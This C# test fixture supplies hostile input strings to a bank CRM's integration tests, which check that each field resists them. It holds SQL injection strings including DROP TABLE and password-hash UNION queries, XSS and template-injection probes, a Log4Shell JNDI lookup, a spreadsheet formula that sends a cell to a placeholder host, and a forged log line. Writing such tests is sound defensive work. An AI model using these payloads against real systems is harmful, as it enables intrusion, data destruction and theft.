using System.Text;
using BankCrm.Integration.Tests.Hosting;

namespace BankCrm.Integration.Tests.HostileInput;

/// <summary>
/// The hostile strings every field is fed: each line of the Big List of Naughty Strings (MIT, Max Woolf; comment
/// lines skipped), plus what it lacks for a Chinese bank CRM: SQL and LIKE metacharacters, markup aimed at our
/// own pages, NUL and other control characters, bidi overrides, rare CJK beyond the BMP and very long text.
/// </summary>
public static class NaughtyStrings
{
    public const string BlnsPath = "naughty-strings/blns.txt";

    /// <summary>Longer than any field allows, short enough for a query string.</summary>
    public static readonly string Long = string.Concat(Enumerable.Repeat("长字段", 700));

    public static readonly IReadOnlyList<string> Extra =
    [
        "' OR 1=1--", "'; DROP TABLE customers;--", "\"; DROP TABLE audit_entries;--", "1' UNION SELECT password_hash FROM asp_net_users--",
        "%", "_", "%_%", "\\", "[a-z]", "' || pg_sleep(5) --", "张%", "*",
        "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "\"><svg onload=alert(1)>", "javascript:alert(1)",
        "{{7*7}}", "${jndi:ldap://x/a}", "@(1+1)", "=HYPERLINK(\"http://x/?\"&A1)",
        "\0", "a\0b", "张\0三", "\u0001\u0002\u001B[31m\u007F", "\u0085\u009F", "a\r\nb", "\t", "rm1\r\n2026-01-01T00:00:00Z INFO login ok user=admin",
        "\u202Etxt.exe", "\uFEFF王五", "张\u200B三", "𠮷野家", "䶮", "阿依古丽·买买提", "１１０１０５１９４９１２３１００２Ｘ", "１３８００１３８０００",
        Long, new string('x', 100_001),
    ];

    public static IReadOnlyList<string> All() => [.. Blns(), .. Extra];

    public static IEnumerable<string> Blns() =>
        File.ReadLines(SharedData.PathOf(BlnsPath), Encoding.UTF8).Where(line => line.Length > 0 && !line.StartsWith('#'));
}
